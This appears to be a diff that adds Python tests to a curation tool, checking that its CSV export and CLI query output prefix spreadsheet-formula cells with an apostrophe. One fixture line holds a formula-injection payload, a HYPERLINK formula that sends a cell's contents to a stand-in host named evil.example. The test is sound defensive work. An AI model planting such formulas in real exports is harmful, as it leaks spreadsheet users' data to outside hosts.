@@ -61,3 +61,55 @@ def test_openapi_schema_needs_a_read_token_when_tokens_are_configured(tmp_path: 
         assert "/api/openapi.json" not in r.json()["paths"]
     with TestClient(create_app(make_settings(tmp_path / "runs", tmp_path / "open"))) as c:  # loopback, no tokens
         assert c.get("/api/openapi.json").status_code == 200
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)", "\t=1"]
+
+
+def test_safe_cell_prefixes_what_a_spreadsheet_evaluates() -> None:
+    from curation.io.csv_export import safe_cell
+
+    for f in FORMULAS + ["\r=1"]:
+        assert safe_cell(f) == "'" + f
+    assert [safe_cell(v) for v in ("plain", " =1", "a=1", -1, 2.5, None)] == ["plain", " =1", "a=1", -1, 2.5, None]
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A document text and a decision text that start like formulas come out of the service's CSV export and
+    ``curate query --format csv`` with a leading ``'``; numbers stay numbers."""
+    import csv
+    import io
+    import os
+    import subprocess
+    import sys
+
+    from tests.conftest import PROSE, REPO, pipeline_dict, write_jsonl
+    from tests.curation.executors.runs import run_pipeline
+
+    run = tmp_path / "runs" / "evil"
+    docs = [{"id": "kept", "domain": "web", "text": FORMULAS[0] + " " + PROSE[0]},
+            {"id": "dropped", "domain": "web", "text": "@SUM(1)"}]  # too short: a decision with its text
+    write_jsonl(tmp_path / "in" / "a.jsonl", docs)
+    run_pipeline(pipeline_dict([str(tmp_path / "in" / "*.jsonl")], run))
+    sql = ("SELECT text AS \"=cmd\", -1 AS n FROM docs UNION ALL SELECT text, 0 FROM decisions UNION ALL "
+           "SELECT unnest(?), 1")
+    sql = sql.replace("?", "[" + ", ".join("'" + f.replace("'", "''") + "'" for f in FORMULAS[1:]) + "]")
+
+    def check(text: str) -> None:
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert rows[0] == ["'=cmd", "n"]
+        cells = {r[0] for r in rows[1:]}
+        assert "'" + FORMULAS[0] + " " + PROSE[0] in cells and "'@SUM(1)" in cells
+        assert {"'" + f for f in FORMULAS[1:]} <= cells
+        assert all(r[0].startswith("'") for r in rows[1:]) and {r[1] for r in rows[1:]} == {"-1", "0", "1"}
+
+    app = create_app(make_settings(run.parent, tmp_path))
+    with serving(app) as url:
+        r = httpx.post(f"{url}/api/runs/evil/query", json={"sql": sql, "format": "csv"}, timeout=60)
+        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+        check(r.text)
+    env = {**os.environ, "PYTHONPATH": str(REPO), "HF_HUB_OFFLINE": "1"}
+    res = subprocess.run([sys.executable, "-m", "curation.cli", "query", str(run), sql, "--format", "csv"], cwd=REPO,
+                         env=env, capture_output=True, text=True, timeout=120)
+    assert res.returncode == 0, res.stdout + res.stderr
+    check(res.stdout)
